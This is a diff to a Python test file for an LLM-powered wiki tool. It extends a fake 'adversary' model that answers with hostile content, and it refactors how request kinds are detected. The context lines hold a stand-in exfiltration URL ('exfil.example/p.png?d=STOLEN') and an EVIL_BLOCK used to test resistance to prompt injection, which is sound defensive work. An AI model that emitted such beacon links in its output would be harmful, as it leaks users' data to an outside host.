@@ -26,7 +26,7 @@ from kwiki.markdown import parse_page, split_frontmatter
 from kwiki.project import Paths
 from llm.loopback import Answer, chat_completion, rate_limited, server_error
 
-from .conftest import extract_reply, page_reply, source_text, wiki_pages
+from .conftest import extract_reply, page_reply, source_text, text_kind, wiki_pages
 
 EXFIL = "https://exfil.example/p.png?d=STOLEN"
 PAD = "padding " * 2_600  # ~20 kB
@@ -94,13 +94,13 @@ def reply_for(request: Request) -> Any:
         return _extract(request)
     if request.name == "summarize":
         return {"title": TITLES[0], "summary": EVIL_BLOCK}
-    if request.name == "write-page":
+    if request.name in ("write-page", "update-page"):
         return write_page(unfence_json(request.user))
     return EVIL_BLOCK
 
 
 def adversary() -> FakeLLM:
-    return FakeLLM({name: reply_for for name in ("extract", "summarize", "write-page", "overview")})
+    return FakeLLM({name: reply_for for name in ("extract", "summarize", "write-page", "update-page", "overview")})
 
 
 # --- the invariants -------------------------------------------------------------------------------------------
@@ -198,9 +198,7 @@ class FaultyServerModel:
 
     def __call__(self, body: dict[str, Any]) -> Answer:
         user = body["messages"][-1]["content"]
-        name = body.get("response_format", {}).get("json_schema", {}).get("name") or (
-            "write-page" if "Write the body of this page" in user else "overview"
-        )
+        name = body.get("response_format", {}).get("json_schema", {}).get("name") or text_kind(user)
         digest = hashlib.sha256(user.encode()).hexdigest()
         with self.lock:
             self.seen[digest] = self.seen.get(digest, 0) + 1
